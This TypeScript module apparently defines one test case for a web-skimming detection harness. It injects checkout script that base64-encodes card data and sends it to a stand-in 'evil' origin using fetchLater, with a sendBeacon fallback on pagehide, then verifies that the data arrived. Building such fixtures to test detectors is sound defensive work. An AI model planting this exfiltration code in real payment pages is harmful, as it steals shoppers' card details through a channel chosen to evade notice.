import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'fetch-later',
  why: 'fetchLater: the browser sends when the page has gone, with no page left to blame; an ordinary beacon where it is missing.',
  covers: ['sending: beacon', 'hard: unusual channel'],
  base: 'direct',
  install: (site) =>
    site.inline(
      onPay(js`
    var to = '${site.origins.evil}/later?d=' + encodeURIComponent(btoa(card()));
    try { fetchLater(to, { activateAfter: 100 }); } catch (e) { addEventListener('pagehide', function () { navigator.sendBeacon(to); }); }`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
